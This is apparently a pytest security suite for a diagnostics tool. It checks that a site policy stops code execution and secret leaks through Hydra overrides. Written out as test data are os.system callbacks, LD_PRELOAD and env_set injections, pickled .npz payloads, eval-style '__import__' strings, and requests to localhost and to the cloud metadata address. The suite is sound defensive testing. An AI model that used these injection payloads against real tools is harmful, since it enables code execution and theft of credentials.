"""Tries to run code or to read secrets with overrides, data, weights, names and a shared folder.

The machine has a policy, `site.yaml`, with one allowed module, host and variable. Whoever tries may
write into the shared folder, which commands run in, and chooses every word of a command.
"""

import io
import json
import pickle
import zipfile
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from hyperdiag.data.filesystem import resolve
from hyperdiag.run.plan.plan_file import load_plan
from tests.networks.test_no_pickle import Payload

FILE, VARIABLE, VALUE, KEY = "zqFILEzq", "zqVARIABLEzq", "zqVALUEzqzq", "zqSIGNATUREzq"
SECRETS = (FILE, VARIABLE, VALUE, KEY)

# A module of the site's, as people write them.
_ALLOWED = """
import os
from functools import partial
from os import system
from pathlib import Path
from subprocess import run
import numpy as np

ready = partial(os.system)
touch = Path('@MARK@').touch

def build(scale=1.0):
    return lambda x: scale * x ** 2

def fails(value):
    raise ValueError(f"no such value: {value}")

def __getattr__(name):
    if name == "made_up":
        return lambda: Path('@MARK@').touch()
    raise AttributeError(name)
"""
_HOSTILE = "from pathlib import Path\nPath('@MARK@').touch()\ndef build(): return lambda x: x\n"
_HYDRA = """# @package _global_
hydra: {callbacks: {a: {_target_: os.system, command: touch @MARK@}}}
"""
_TARGET = "network.target=mycompany_nets.nets"
_NETWORK = ("networks", "network=python", "network.n_inputs=2")
_CHAIN = (
    *("derive", "network=chain", "network.layers='Chain(Dense(2,1,tanh))'", "dataset.rows=8"),
    *("network.ranges={x1: [0, 1], x2: [0, 1]}", "cluster=inline", "derivatives.method=hyperdual"),
    *("derivatives.tile=1", "derivatives.verify_rows=0", "output.path=out"),
)
_STATUS = ("status", "output.path=nothing")
_CALL = "{_target_: os.system, command: 'touch @MARK@'}"

# What is tried: a name, the words of the command, and a part of what is said to it.
RUNNING = [
    ("callback", (*_STATUS, f"++hydra.callbacks.a={_CALL}"), "callbacks.a cannot be given"),
    ("callback of a sweep", ("derive", "-m", f"++hydra.callbacks.a={_CALL}"), "callbacks.a cannot"),
    ("callback within ours", (*_STATUS, f"++hydra.callbacks.masked.a={_CALL}"), "callbacks.masked"),
    ("callback for ours", (*_STATUS, "hydra.callbacks.masked._target_=os.abort"), "masked cannot"),
    ("launcher", (*_STATUS, "hydra.launcher._target_=os.abort"), "no launcher of Hydra's"),
    ("in the launcher", ("derive", "-m", f"++hydra.launcher.a={_CALL}"), "no launcher of Hydra's"),
    ("sweeper", ("derive", "-m", "hydra.sweeper._target_=os.abort"), "no sweeper of Hydra's"),
    (
        "in the sweeper",
        ("derive", "-m", "++hydra/sweeper=x", f"++hydra.sweeper={_CALL}"),
        "sweeper",
    ),
    ("plugin", (*_STATUS, "hydra.launcher._target_=hydra_plugins.evil.X"), "module hydra_plugins"),
    (
        "handler of the log",
        (
            *_STATUS,
            "++hydra.job_logging={version: 1, root: {handlers: [a]}, handlers: {a: "
            "{class: logging.FileHandler, filename: '@MARK@'}}}",
        ),
        "job_logging cannot be changed",
    ),
    ("group of the log", (*_STATUS, "hydra/hydra_logging=default"), "hydra_logging cannot be"),
    ("policy of mine", (*_STATUS, "++hydra.job.env_set={HYPERDIAG_SITE: x}"), "env_set cannot"),
    ("library", (*_STATUS, "++hydra.job.env_set={LD_PRELOAD: x.so}"), "env_set cannot"),
    ("variables", (*_STATUS, "++hydra.job.env_copy=[PATH]"), "env_copy cannot"),
    ("another folder", (*_STATUS, "hydra.job.chdir=true", "hydra.run.dir=x"), "chdir cannot"),
    ("record", (*_STATUS, "hydra.output_subdir=conf/schedule"), "output_subdir cannot"),
    ("package to search", (*_STATUS, "hydra.searchpath=[pkg://evil_module]"), "is a package"),
    ("package as folder", ("status", "--config-path=pkg://evil_module"), "is a package"),
    ("file in a group", ("derive", "--config-dir=conf", "+experiment=evil"), "callbacks.a cannot"),
    ("main file", ("status", "--config-dir=conf", "--config-name=main"), "is a package"),
    ("file of overrides", ("derive", "--config=keys.yaml"), "callbacks"),
    ("pickle of Hydra's", ("status", "--experimental-rerun=w.npz"), "unpickles a file"),
    ("the same, short", ("status", "--experimental-r", "w.npz"), "unpickles a file"),
    ("function of Python's", (*_NETWORK, "network.target=os:abort"), "os is Python's own"),
    ("partial", (*_NETWORK, f"{_TARGET}:partial"), "module functools"),
    ("a partial", (*_NETWORK, f"{_TARGET}:ready"), "module functools"),
    ("re-exported", (*_NETWORK, f"{_TARGET}:run"), "the module subprocess"),
    ("built in", (*_NETWORK, f"{_TARGET}:system"), "the module posix"),
    ("method", (*_NETWORK, f"{_TARGET}:touch"), "does not allow"),
    ("class", (*_NETWORK, f"{_TARGET}:Path"), "the module pathlib"),
    ("module", (*_NETWORK, f"{_TARGET}:np"), "does not allow"),
    ("attribute of one", (*_NETWORK, f"{_TARGET}:os.abort"), "a name in it"),
    ("made up", (*_NETWORK, f"{_TARGET}:made_up"), "has no 'made_up'"),
    ("path", (*_NETWORK, "network.target=mycompany_nets/../evil_module:build"), "a name in it"),
    ("shared module", (*_NETWORK, "network.target=evil_module:build"), "module evil_module"),
    ("shared package", (*_NETWORK, "network.target=mycompany_more:build"), "in Python's path)"),
    ("function of mine", (*_CHAIN, "derived.mine=evil_module:build"), "module evil_module"),
    ("function of Python's, derived", (*_CHAIN, "derived.mine=os:abort"), "os is Python's own"),
    (
        "scenarios of a server of mine",
        (
            *(*_CHAIN, "derived=[delta_gamma]"),
            "derived.delta_gamma.scenarios='fsspec+http://127.0.0.1:1/x.parquet'",
        ),
        "scenarios: this site does not allow the host 127.0.0.1:1",
    ),
    ("command", (*_CHAIN, "notify.command=[touch,'@MARK@']"), "does not allow the program touch"),
    ("webhook", (*_CHAIN, "notify.url=http://169.254.169.254/x"), "the host 169.254.169.254"),
    (
        "client of Ray's",
        (*_CHAIN, "cluster=existing", "cluster.address='evil_module://x'"),
        "cluster.address must be",
    ),
    (
        "head of mine",
        (*_CHAIN, "cluster=existing", "cluster.address=127.0.0.1:1"),
        "does not allow the host 127.0.0.1:1",
    ),
    ("head that I name in /tmp", (*_CHAIN, "cluster=existing"), "does not allow the host auto"),
    (
        "store of mine",
        ("status", "output.path='s3://b/x?endpoint_override=127.0.0.1:1&scheme=http'"),
        "output.path: this site does not allow the host 127.0.0.1:1",
    ),
    (
        "data of a server of mine",
        ("derive", "dataset=parquet", "dataset.path='fsspec+http://127.0.0.1:1/x.parquet'"),
        "dataset.path: this site does not allow the host 127.0.0.1:1",
    ),
    ("HDFS of mine", ("status", "output.path=hdfs://evil/x"), "does not allow the host evil"),
    ("Azure of mine", ("status", "output.path='abfs://c@evil:1/x'"), "allow the host evil:1"),
    ("job server of this machine", ("submit", *_CHAIN[1:5], *_CHAIN[6:]), "host 127.0.0.1:8265"),
    ("job server of mine", ("submit", "submit.address=http://127.0.0.1:1"), "the host 127.0.0.1:1"),
    (
        "interpreter",
        ("submit", *_CHAIN[1:5], *_CHAIN[6:], "submit.address=http://good", "submit.python=./e.sh"),
        "does not allow the program ./e.sh",
    ),
    (
        "requirement",
        (
            *("submit", *_CHAIN[1:5], *_CHAIN[6:], "submit.address=http://good"),
            *("submit.environment=install", "submit.requirements=[evil]"),
        ),
        "submit.requirements: this site does not allow it",
    ),
    ("weights", (*_CHAIN, "network.weights=w.npz"), "is not an .npz of plain arrays"),
    ("objects in weights", (*_CHAIN, "network.weights=o.npz"), "an array of Python objects"),
    ("layers", (*_CHAIN, "network.layers='__import__(\"os\").abort()'"), "reads like Chain"),
    (
        "filter",
        (
            *(*_CHAIN[:3], *_CHAIN[4:], "dataset=parquet", "dataset.path=rows.parquet"),
            "dataset.filter='__import__(\"os\").abort()'",
        ),
        "dataset.filter",
    ),
    ("state", ("schedule", "--config-dir=good", "schedule.state=state"), "others may write to it"),
    (
        "entry of a schedule",
        ("schedule", "--config-dir=conf", "schedule.state=own", "action=list"),
        "overrides: hydra.callbacks.a cannot be given",
    ),
]
# Among what cannot be kept out of a command, nothing is shown.
READING = [
    ("variable", ("status", "output.path=/tmp/${oc.env:ZQ_VALUE}"), "the variable ZQ_VALUE"),
    ("in a webhook", (*_CHAIN, "notify.url=http://good/${oc.env:ZQ_VALUE}"), "variable ZQ_VALUE"),
    (
        "decoded",
        ("status", 'output.path="${oc.decode:${oc.env:ZQ_VALUE}}"'),
        "the variable ZQ_VALUE",
    ),
    ("by another name", ("status", "output.path=${oc.${format}:ZQ_VALUE}", "format=env"), "ZQ_V"),
    ("with a default", ("status", "output.path=${oc.env:ZQ_VALUE,x}"), "the variable ZQ_VALUE"),
    (
        "that may be read",
        (*_NETWORK, f"{_TARGET}:fails", "network.kwargs={value: '${oc.env:ZQ_OPEN}'}"),
        "no such value: ***",
    ),
    (
        "that is no such option",
        (*_NETWORK, f"{_TARGET}:build", "network.kwargs={a: '${oc.env:ZQ_OPEN}'}"),
        "***",
    ),
    ("file as data", ("derive", "dataset=parquet", "dataset.path=secret.parquet"), "secret.par"),
    ("file as weights", (*_CHAIN, "network.weights=secret.parquet"), "is not an .npz"),
    ("file as configuration", ("status", "--config=secret.parquet"), "cannot be read"),
    ("file as a group", ("derive", "--config-dir=conf", "+experiment=secret"), "secret"),
    (
        "webhook that is misspelled",
        (*_CHAIN, f"notify.url=http://good/services/{VALUE}?a=b"),
        "cannot read the override `notify.url=***",
    ),
    ("webhook elsewhere", (*_CHAIN, f"notify.url='http://bad/services/{VALUE}'"), "the host bad"),
    (
        "signature",
        ("status", f"output.path='s3://b/x?X-Amz-Signature={KEY}&sig={KEY}&bogus=x'"),
        "X-Amz-Signature=***",
    ),
    ("password", ("status", f"output.path='s3://me:{KEY}@b/x?anonymous=y'"), "s3://***@b/x"),
    (
        "token in a mapping",
        (*_NETWORK, f"network.kwargs={{api_token: {KEY}=}}"),
        "network.kwargs={api_token: ***",
    ),
]


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    """The shared folder, and one of Python's path; `mark` is made by whatever is run."""
    folder, installed = tmp_path_factory.mktemp("shared"), tmp_path_factory.mktemp("installed")
    mark = folder / "mark"
    for path, content in {
        installed / "mycompany_nets/__init__.py": "",
        installed / "mycompany_nets/nets.py": _ALLOWED,
        folder / "evil_module.py": _HOSTILE,
        folder / "mycompany_more.py": _HOSTILE,
        folder / "mycompany_nets/__init__.py": _HOSTILE,
        folder / "mycompany_nets/nets.py": _HOSTILE,
        folder / "e.sh": "#!/bin/sh\ntouch @MARK@\n",
        folder / "conf/experiment/evil.yaml": _HYDRA,
        folder / "conf/experiment/secret.yaml": f"- [{FILE}",
        folder / "conf/main.yaml": "defaults: [status]\nhydra: {searchpath: ['pkg://evil_module']}",
        folder / "conf/schedule/nightly.yaml": "every: 1h\noverrides: ['++hydra.callbacks.a="
        + _CALL.replace("'", "''")
        + "', cluster=inline]",
        folder / "good/schedule/nightly.yaml": "every: 1h",
        folder / "keys.yaml": _HYDRA.partition("\n")[2],
        folder / "secret.parquet": f"{FILE}: [{FILE}",
        folder / "state/schedule.sqlite": "",
        folder / "theirs-1.dist-info/METADATA": "Name: theirs\nVersion: 1\n",
        folder / "theirs-1.dist-info/entry_points.txt": "[hyperdiag.networks]\n"
        "theirs = evil_module:build\n",
        folder / "site.yaml": "allowed_modules: ['mycompany_*', 'mycompany_nets.*']\n"
        "allowed_hosts: [good]\nallowed_variables: [ZQ_OPEN]\n",
    }.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content.replace("@MARK@", str(mark)))
    (folder / "state").chmod(0o777)
    (folder / "e.sh").chmod(0o755)
    pq.write_table(pa.table({"x1": [0.5], "x2": [0.5]}), folder / "rows.parquet")
    (folder / "w.npz").write_bytes(pickle.dumps(Payload(mark)))
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload(mark)], dtype=object), allow_pickle=True)
    with zipfile.ZipFile(folder / "o.npz", "w") as file:
        file.writestr("W1.npy", buffer.getvalue())
    return folder, installed


@pytest.fixture
def attempt(shared, invoke, monkeypatch):
    """Run a command in the shared folder, under the policy; return what it said."""
    folder, installed = shared
    monkeypatch.syspath_prepend(str(installed))
    monkeypatch.setenv("HYPERDIAG_SITE", str(folder / "site.yaml"))
    for name, value in {"ZQ_VALUE": VALUE, "ZQ_OPEN": VARIABLE}.items():
        monkeypatch.setenv(name, value)

    def run(command):
        mark = folder / "mark"
        done = invoke(*(word.replace("@MARK@", str(mark)) for word in command), cwd=folder)
        assert not mark.exists(), done.stderr
        return done

    return run


def _rows(tries):
    return [pytest.param(*row, id=name) for name, *row in tries]


@pytest.mark.one_in(16)
@pytest.mark.parametrize(("command", "said"), _rows(RUNNING))
def test_nothing_is_run(attempt, command, said):
    done = attempt(command)
    assert done.returncode == 2
    assert said in done.stderr


@pytest.mark.one_in(4)
@pytest.mark.parametrize(("command", "said"), _rows(READING))
def test_nothing_is_read(attempt, command, said):
    done = attempt(command)
    assert said in done.stdout + done.stderr
    assert [secret for secret in SECRETS if secret in done.stdout + done.stderr] == []


def test_allowed_module_is_not_the_one_in_the_shared_folder(attempt):
    done = attempt((*_NETWORK, f"{_TARGET}:build", "network.outputs=[u,v]"))
    assert done.returncode == 0, done.stderr
    assert "2 outputs" in done.stdout
    assert "theirs" not in attempt(("networks",)).stdout  # nor is a network registered there


@pytest.mark.one_in(2)
@pytest.mark.parametrize(
    ("target", "policy", "said"),
    [
        ("os:system", False, "os is Python's own"),
        ("evil_module:build", True, "does not allow the module evil_module"),
    ],
)
def test_output_whose_plan_names_code_runs_none(
    shared, invoke, monkeypatch, tmp_path, target, policy, said
):
    assert invoke(*_CHAIN).returncode == 0
    output = resolve(str(tmp_path / "out"))
    plan = load_plan(output)
    mark = tmp_path / "mark"
    settings = {"name": "python", "target": target, "kwargs": {"command": f"touch {mark}"}}
    theirs = replace(
        plan,
        network=replace(plan.network, name="python", settings={**settings, "n_inputs": 2}),
    )
    content = {"digest": theirs.digest, "files": 0, "settings": theirs.to_json()}
    (tmp_path / "out/run/plan.json").write_text(json.dumps(content))
    for file in (tmp_path / "out/run").glob("*.json"):
        file.write_text(file.read_text().replace(plan.digest, theirs.digest))
    (tmp_path / "path").mkdir()
    hostile = _HOSTILE.replace("@MARK@", str(mark))
    (tmp_path / "path/evil_module.py").write_text(hostile)
    monkeypatch.syspath_prepend(str(tmp_path / "path"))
    if policy:
        monkeypatch.setenv("HYPERDIAG_SITE", str(shared[0] / "site.yaml"))
    done = invoke("verify", "output.path=out")
    assert done.returncode in (1, 2)
    assert said in done.stdout + done.stderr
    assert not mark.exists()
